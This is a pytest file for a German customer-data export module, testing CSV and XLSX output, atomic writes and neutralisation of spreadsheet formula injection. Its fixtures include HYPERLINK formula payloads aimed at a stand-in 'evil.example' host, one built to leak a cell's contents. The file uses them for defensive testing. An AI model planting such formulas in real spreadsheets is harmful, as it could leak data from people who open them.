"""Writing exports: CSV for German Excel, workbooks, formulas neutralised, files written whole."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from emma.domain.errors import UserError
from emma.exchange.reading import read_table
from emma.exchange.writing import neutralise, write_table

COLUMNS = ["Vorname", "Nachname", "Telefon", "Notizen"]
ROWS = [
    ["Anna", "Müller", "+49 170 1234567", '=HYPERLINK("http://evil.example","Klick")'],
    ["Bernd", "Groß; Klein", "-5", "Zeile 1\nZeile 2, mit Komma"],
    ["Carla", "", "@SUM(A1)", "'=schon mit Apostroph"],
    ["Zoë", "O'Brien", "", 'ein "Zitat" und €'],
]
PROPERTY = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def test_csv_for_german_excel(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    assert write_table(path, COLUMNS, ROWS) == 4
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfVorname;Nachname;Telefon;Notizen\r\n")
    text = data.decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[1] == 'Anna;Müller;\'+49 170 1234567;"\'=HYPERLINK(""http://evil.example"",""Klick"")"'
    assert lines[2] == 'Bernd;"Groß; Klein";\'-5;"Zeile 1\nZeile 2, mit Komma"'
    assert lines[3] == "Carla;;'@SUM(A1);''=schon mit Apostroph"
    assert text.endswith("\r\n")


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_round_trip(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"export{ending}"
    write_table(path, COLUMNS, ROWS)
    table = read_table(path)
    assert table.columns == COLUMNS
    assert [list(row.cells) for row in table.rows] == ROWS
    assert [row.number for row in table.rows] == ([2, 3, 5, 6] if ending == ".csv" else [2, 3, 4, 5])


def test_formula_reads_back_literally_and_the_csv_cell_starts_with_an_apostrophe(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Rechnung")'
    path = tmp_path / "export.csv"
    write_table(path, ["Notizen"], [[formula]])
    assert path.read_bytes().decode("utf-8-sig").split("\r\n")[1].lstrip('"').startswith("'=HYPERLINK")
    assert read_table(path).rows[0].cells == (formula,)


def test_the_workbook_holds_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    write_table(path, ["=Kopf", "B"], [["=1+2", "+1"], ["-1", "@x"]])
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    book = load_workbook(path)
    values = [[cell.value for cell in row] for row in book.active.iter_rows()]
    assert values == [["'=Kopf", "B"], ["'=1+2", "'+1"], ["'-1", "'@x"]]
    assert all(cell.data_type == "s" for row in book.active.iter_rows() for cell in row)


def test_workbook_layout(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    write_table(path, ["PLZ", "Notizen"], [["01067", "ein langer Text " * 10], ["10115", ""]])
    book = load_workbook(path)
    sheet = book.active
    assert sheet.title == "Customers"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b and sheet["B1"].font.b
    assert sheet["A2"].value == "01067" and sheet["A2"].data_type == "s"  # a postal code keeps its zero
    assert 8 <= sheet.column_dimensions["A"].width <= 12
    assert sheet.column_dimensions["B"].width == 50


def test_control_characters_are_left_out_of_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    write_table(path, ["A"], [["ein\x00 Null\x07 und\x1b Escape"]])
    assert read_table(path).rows[0].cells == ("ein Null und Escape",)


def test_rows_shorter_or_longer_than_the_header(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    write_table(path, ["A", "B"], [["1"], ["1", "2", "3"]])
    assert path.read_bytes().decode("utf-8-sig") == "A;B\r\n1;\r\n1;2\r\n"


def test_no_rows(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    assert write_table(path, ["A", "B"], []) == 0
    assert path.read_bytes() == b"\xef\xbb\xbfA;B\r\n"


def test_an_existing_file_is_replaced(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_text("alt")
    write_table(path, ["A"], [["neu"]])
    assert read_table(path).rows[0].cells == ("neu",)


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_an_error_while_gathering_rows_leaves_no_file(tmp_path: Path, ending: str) -> None:
    def rows() -> Iterator[list[str]]:
        for number in range(500):
            yield [str(number)]
        raise RuntimeError("the database went away")

    path = tmp_path / f"export{ending}"
    with pytest.raises(RuntimeError):
        write_table(path, ["A"], rows())
    assert list(tmp_path.iterdir()) == []


def test_an_error_while_gathering_rows_keeps_the_old_file(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_bytes(b"old")

    def rows() -> Iterator[list[str]]:
        yield ["1"]
        raise UserError("stop")

    with pytest.raises(UserError):
        write_table(path, ["A"], rows())
    assert path.read_bytes() == b"old"
    assert list(tmp_path.iterdir()) == [path]


def test_unsupported_ending(tmp_path: Path) -> None:
    with pytest.raises(UserError, match=r"export\.pdf"):
        write_table(tmp_path / "export.pdf", ["A"], [])
    assert list(tmp_path.iterdir()) == []


def test_missing_folder(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="folder"):
        write_table(tmp_path / "fehlt" / "export.csv", ["A"], [])


def test_unwritable_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Folder permissions do not stop root (the test machine's user): the refusal is what the disk says.
    import tempfile

    def refused(*_args, **_kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refused)
    with pytest.raises(UserError, match="folder"):
        write_table(tmp_path / "export.csv", ["A"], [])


def test_target_is_a_folder(tmp_path: Path) -> None:
    (tmp_path / "export.csv").mkdir()
    with pytest.raises(UserError, match="folder"):
        write_table(tmp_path / "export.csv", ["A"], [])


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+49", "'+49"),
        ("-", "'-"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("'x", "'x"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, written: str) -> None:
    assert neutralise(cell) == written


# Text as an owner's cells hold it: any characters but control characters, stripped, line breaks as \n.
CELL = (
    st.text(st.characters(blacklist_categories=("Cs", "Cc")) | st.sampled_from("\n=+-@'\";,\t"), max_size=30)
    .map(lambda text: "\n".join(line.strip() for line in text.strip().splitlines()))
    .map(str.strip)
)


@st.composite
def tables(draw: st.DrawFn) -> tuple[list[str], list[list[str]]]:
    width = draw(st.integers(1, 5))
    # A first heading the program knows: a first row of numbers would be taken for a customer.
    header = ["Vorname", *(draw(CELL.filter(bool)) for _ in range(width - 1))]
    rows = draw(st.lists(st.lists(CELL, min_size=width, max_size=width).filter(any), min_size=1, max_size=8))
    return header, rows


@PROPERTY
@given(table=tables(), ending=st.sampled_from([".csv", ".xlsx"]))
def test_any_table_of_text_survives_writing_and_reading(tmp_path: Path, table, ending: str) -> None:
    header, rows = table
    path = tmp_path / f"export{ending}"
    write_table(path, header, rows)
    read = read_table(path)
    assert read.columns[: len(header)] == header
    assert [list(row.cells) for row in read.rows] == rows
